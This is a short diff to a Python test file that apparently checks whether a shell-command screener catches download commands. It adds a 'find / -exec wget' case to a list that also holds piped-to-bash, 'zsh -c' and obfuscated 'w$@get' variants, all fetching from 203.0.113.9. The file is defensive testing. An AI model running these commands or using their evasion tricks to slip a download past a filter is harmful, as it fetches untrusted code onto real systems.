@@ -195,6 +195,7 @@ def test_launchers_and_commands_without_a_space_are_looked_through(line):
         "printf 'wget http://203.0.113.9/x' | /bin/bash",
         "zsh -c 'wget http://203.0.113.9/x'",
         "w$@get http://203.0.113.9/x",
+        "find / -name a -exec wget http://203.0.113.9/x \\; -print",
     ],
 )
 def test_what_a_shell_is_given_to_read_is_looked_at(line):
